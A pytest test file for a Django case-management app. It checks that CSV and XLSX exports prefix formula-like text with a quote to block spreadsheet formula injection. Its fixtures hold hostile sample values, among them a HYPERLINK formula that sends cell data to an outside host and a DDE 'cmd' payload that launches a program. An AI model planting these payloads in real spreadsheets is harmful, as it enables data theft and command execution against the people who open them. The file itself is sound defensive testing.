"""Issue 17 (8): no export hands a spreadsheet a formula typed into a case (OWASP CSV
injection). Text that starts with = + - @ tab or CR is written with a leading quote;
numbers stay numbers."""

import csv
import datetime
import io
import zipfile
from dataclasses import replace
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from cases import exports
from cases.models import Case
from downloads.models import ExportJob
from formio.casedata import ContactData, ProviderData

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://x.io/?"&A1;"clique")'


@pytest.fixture
def hostile(make_case):
    return make_case(
        city="+SUM(1;2)",
        general_notes=LINK,
        retention_actions_notes="-2+3",
        other_plans="@SOMA(A1)",
        serves_other_plans=True,
        signatures=["=cmd|' /C calc'!A0"],
        last_production_value=Decimal("-12.50"),
        contacts=[ContactData(datetime.date(2024, 2, 9), "\t=1+1")],
    )


QUOTED = {
    "Cidade": "'+SUM(1;2)",
    "Obs. Geral": "'" + LINK,
    "Obs. (Ação Retenção)": "'-2+3",
    "Quais?": "'@SOMA(A1)",
    "Assinaturas": "'=cmd|' /C calc'!A0",
}


def test_the_csv_list_quotes_formulas_and_keeps_negative_numbers(hostile):
    text = "".join(exports.csv_chunks(Case.objects.all(), personal=True))
    row = next(csv.DictReader(io.StringIO(text[1:]), delimiter=";"))
    assert {header: row[header] for header in QUOTED} == QUOTED
    assert row["Valor última prod."] == "-12,50"


def test_the_xlsx_list_has_no_formula_cell_and_numbers_stay_numbers(hostile):
    out = io.BytesIO()
    exports.write_xlsx(Case.objects.all(), out, personal=True)
    with zipfile.ZipFile(out) as book:
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")
    sheet = load_workbook(out).active
    header, row = list(sheet.iter_rows(values_only=True))
    cells = dict(zip(header, row, strict=True))
    assert {name: cells[name] for name in QUOTED} == QUOTED
    assert cells["Valor última prod."] == -12.5


def test_a_background_csv_is_quoted_as_well(client, supervisor, hostile, monkeypatch):
    export = exports.EXPORTS["lista.csv"]
    monkeypatch.setitem(exports.EXPORTS, "lista.csv", replace(export, inline_limit=0))
    client.force_login(supervisor)
    client.get(reverse("exports:list", args=["csv"]))
    download = client.get(reverse("downloads:file", args=[ExportJob.objects.get().pk]))
    text = b"".join(download.streaming_content).decode("utf-8-sig")
    row = next(csv.DictReader(io.StringIO(text), delimiter=";"))
    assert row["Obs. Geral"] == "'" + LINK


def test_every_report_table_quotes_formulas_in_xlsx_and_csv(client, manager, make_case):
    make_case(
        provider=ProviderData(name=LINK, cro="26666", cro_uf="RJ", person_type="F"),
        city="@cidade",
        lives=10,
        unique_cros_listed=1,
        cro_count=1,
    )
    client.force_login(manager)
    response = client.get(reverse("reports:export", args=["risco-casos", "xlsx"]))
    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")
    sheet = load_workbook(io.BytesIO(response.content)).active
    row = [cell for cell in sheet[4]]
    assert (row[0].value, row[0].data_type) == ("'" + LINK, "s")
    assert row[2].value == "'@cidade"
    assert row[4].value == 10
    response = client.get(reverse("reports:export", args=["risco-casos", "csv"]))
    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert lines[1][:3] == ["'" + LINK, "26666/RJ", "'@cidade"]
